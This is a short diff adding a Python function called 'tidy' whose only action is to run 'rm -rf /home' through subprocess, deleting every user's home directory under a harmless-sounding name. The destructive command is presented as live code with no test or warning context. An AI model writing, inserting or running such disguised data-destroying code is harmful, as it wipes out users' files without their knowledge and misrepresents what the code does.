@@ -1,0 +1,5 @@
+import subprocess
+
+
+def tidy():
+    subprocess.run(["rm", "-rf", "/home"])
